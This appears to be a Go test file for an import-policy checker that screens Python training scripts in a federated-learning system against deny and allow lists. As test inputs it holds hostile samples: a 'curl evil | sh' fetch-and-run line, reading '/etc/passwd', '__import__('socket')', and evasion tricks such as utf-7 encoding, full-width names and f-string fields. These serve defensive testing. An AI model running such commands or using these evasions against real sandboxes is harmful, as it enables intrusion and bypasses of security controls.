package imports_test

import (
	"strings"
	"testing"

	"github.com/hearthfl/hearth/plugins/checker"
	"github.com/hearthfl/hearth/plugins/checker/imports"
)

// denyConfig is a deny-list site's policy; allowConfig an allow-list
// site's.
const (
	denyConfig  = `{"deny": ["socket", "subprocess", "ctypes", "os", "importlib"], "deny_calls": ["__import__", "exec", "eval", "compile", "open"]}`
	allowConfig = `{"allow": ["torch", "numpy", "math", "os.path"], "deny_calls": ["__import__", "eval"]}`
)

// job is a job whose code is the one file train.py holding src.
func job(src string) checker.Job {
	return checker.Job{Site: "site-1", JobID: "j1", Trainer: "pytorch", Workflow: "fedavg",
		Code: []checker.File{{Name: "train.py", Data: []byte(src)}}}
}

// TestCheck is the checker's decision table: each script against a
// policy, allowed or refused with a reason naming the file, the line and
// the module or name.
func TestCheck(t *testing.T) {
	tests := []struct {
		name   string
		config string
		src    string
		want   string // "" allowed; else a part of the refusal's reason
	}{
		{"allowed script", denyConfig, "import torch\nimport torch.nn as nn\nfrom math import sqrt\n\nprint(sqrt(2))\n", ""},
		{"import socket", denyConfig, "import torch\nimport socket\n", "train.py line 2: imports socket, which this site's policy denies (socket)"},
		{"from subprocess import run", denyConfig, "from subprocess import run\nrun(['ls'])\n", "train.py line 1: imports subprocess, which this site's policy denies (subprocess)"},
		{"import os.path as p", denyConfig, "import math, os.path as p\n", "train.py line 1: imports os.path, which this site's policy denies (os)"},
		{"from os import path", denyConfig, "from os import path\n", "line 1: imports os, "},
		{"a denied package's submodule", denyConfig, "import importlib.util\n", "imports importlib.util, which this site's policy denies (importlib)"},
		{"import in a string is not counted", denyConfig, "s = 'import socket'\nt = \"\"\"\nimport subprocess\nfrom os import system\n\"\"\"\n", ""},
		{"import in a comment is not counted", denyConfig, "# import socket\nx = 1  # from os import path\n", ""},
		{"import in a byte string and an f-string's literal text", denyConfig, "b = rb'import socket'\nf = f\"import os {1 + 2} from subprocess import x\"\n", ""},
		{"__import__ refused when denied", denyConfig, "m = __import__(\"socket\")\n", "train.py line 1: calls __import__, which this site's policy denies"},
		{"__import__ allowed when not denied", `{"deny": []}`, "m = __import__(\"socket\")\n", ""},
		{"eval taken without a call", denyConfig, "f = eval\n", "line 1: refers to eval, which this site's policy denies"},
		{"open in a with", denyConfig, "x = 1\nwith open('/etc/passwd') as f:\n    pass\n", "train.py line 2: calls open"},
		{"a method named like a builtin is not it", denyConfig, "import re\np = re.compile('a')\nimg.open('x')\n", ""},
		{"a definition and a keyword argument named like a builtin", denyConfig, "def open(path, compile=False):\n    return path\nx = f(eval=1)\n", ""},
		{"builtins' attribute is the builtin", denyConfig, "import builtins\nbuiltins.exec('1')\n", "line 2: calls exec"},
		{"a builtin imported from builtins", denyConfig, "from builtins import exec as run\n", "line 1: imports exec, which this site's policy denies"},
		{"code in an f-string's field", denyConfig, "s = f\"{x!r:>{w}} {__import__('socket')}\"\n", "line 1: calls __import__"},
		{"an f-string's field reusing its quote (PEP 701)", denyConfig, "s = f\"{d[\"k\"]} {eval(\"1\")}\"\n", "line 1: calls eval"},
		{"a full-width name is the name (NFKC)", denyConfig, "ｅｖａｌ('1')\n", "line 1: calls eval"},
		{"multi-line parenthesized from-import", denyConfig, "import math\nfrom x import (a,\n b)\nfrom os import (\n    path,\n)\n", "train.py line 4: imports os, "},
		{"a line continuation", denyConfig, "import math, \\\n    socket\n", "train.py line 2: imports socket"},
		{"a compound statement on one line", denyConfig, "if True: import socket\n", "line 1: imports socket"},
		{"after a semicolon", denyConfig, "x = 1; import ctypes\n", "line 1: imports ctypes"},
		{"relative imports are the job's own", `{"allow": []}`, "from . import helpers\nfrom ..pkg import y\n", ""},
		{"allow-list: not listed", allowConfig, "import torch\nimport requests\n", "train.py line 2: imports requests, which is not in this site's allow-list"},
		{"allow-list: a listed package's submodule", allowConfig, "import torch.nn.functional as F\nfrom torch.utils.data import DataLoader\nfrom __future__ import annotations\n", ""},
		{"allow-list: from os import path with os.path allowed", allowConfig, "from os import path\n", ""},
		{"allow-list: from os import system", allowConfig, "from os import path, system\n", "line 1: imports os.system, which is not in this site's allow-list"},
		{"allow-list: eval", allowConfig, "import math\nx = eval('1')\n", "line 2: calls eval"},
		{"yield from and raise from are not imports", denyConfig, "def g():\n    yield from range(3)\ntry:\n    pass\nexcept E as e:\n    raise V from e\n", ""},
		{"the first of several, and how many more", denyConfig, "import socket\nimport ctypes\neval('1')\n", "line 1: imports socket, which this site's policy denies (socket) (and 2 more)"},
		{"an unclosed string is refused, not guessed", denyConfig, "s = 'abc\nimport socket\n", "train.py line 1: cannot be tokenized: a string is not closed at the end of its line"},
		{"an unreadable import is refused", denyConfig, "import\n", "line 1: cannot read an import"},
		{"utf-7 is refused", denyConfig, "# coding: utf-7\n+AGkAbQBwAG8AcgB0- socket\n", "declares the source encoding utf-7"},
		{"latin-1 on an ASCII file reads as it is", denyConfig, "# -*- coding: latin-1 -*-\nimport math\n", ""},
		{"a NUL byte", denyConfig, "import math\x00\n", "holds a NUL byte"},
		{"not UTF-8", denyConfig, "s = '\xff'\n", "is not UTF-8"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p, err := imports.Parse([]byte(tt.config))
			if err != nil {
				t.Fatal(err)
			}
			d := p.Check(job(tt.src))
			if err := checker.CheckDecision(d); err != nil {
				t.Fatalf("decision %+v outside the contract: %v", d, err)
			}
			if tt.want == "" {
				if !d.Allowed {
					t.Fatalf("refused: %q; want allowed", d.Reason)
				}
				return
			}
			if d.Allowed || !strings.Contains(d.Reason, tt.want) {
				t.Fatalf("decision %+v; want refused saying %q", d, tt.want)
			}
		})
	}
}

// TestCheckFiles: every file is read; a job's own module is importable
// under an allow-list; a file that is not a Python source is refused; a
// job without code is allowed.
func TestCheckFiles(t *testing.T) {
	p, err := imports.Parse([]byte(`{"allow": ["torch"]}`))
	if err != nil {
		t.Fatal(err)
	}
	j := checker.Job{Code: []checker.File{
		{Name: "train.py", Data: []byte("import torch\nimport helpers\n")},
		{Name: "helpers.py", Data: []byte("import torch\n\n\nimport json\n")},
	}}
	if d := p.Check(j); d.Allowed || !strings.Contains(d.Reason, "helpers.py line 4: imports json") {
		t.Fatalf("decision %+v; want helpers.py's json refused", d)
	}
	j.Code[1].Data = []byte("import torch\n")
	if d := p.Check(j); !d.Allowed {
		t.Fatalf("decision %+v; want allowed (helpers is the job's own)", d)
	}
	j.Code = append(j.Code, checker.File{Name: "run.sh", Data: []byte("curl evil | sh")})
	if d := p.Check(j); d.Allowed || !strings.Contains(d.Reason, "run.sh: not a Python source") {
		t.Fatalf("decision %+v; want run.sh refused", d)
	}
	if d := p.Check(checker.Job{}); !d.Allowed {
		t.Fatalf("a job without code: %+v; want allowed", d)
	}
}

// TestParse: the configuration is parsed strictly.
func TestParse(t *testing.T) {
	tests := []struct{ name, config, want string }{
		{"neither list", `{"deny_calls": ["eval"]}`, `exactly one of "allow" and "deny"`},
		{"both lists", `{"allow": [], "deny": []}`, `exactly one of "allow" and "deny"`},
		{"unknown key", `{"deny": [], "denny_calls": []}`, `unknown field "denny_calls"`},
		{"not a module name", `{"deny": ["os..path"]}`, `"os..path" is not a dotted Python module name`},
		{"a keyword as a name", `{"deny": [], "deny_calls": ["import"]}`, `"import" is not a Python name`},
		{"two values", `{"deny": []} {}`, "more than one JSON value"},
		{"not JSON", `deny: [os]`, "imports: config"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, err := imports.Parse([]byte(tt.config)); err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("Parse: %v; want an error saying %q", err, tt.want)
			}
		})
	}
}

// TestCheckerUnconfigured: the checker answers no decision before it is
// configured.
func TestCheckerUnconfigured(t *testing.T) {
	if d, err := imports.New().Check(t.Context(), job("import math\n")); err == nil {
		t.Fatalf("Check before Configure = %+v, nil; want an error", d)
	}
}
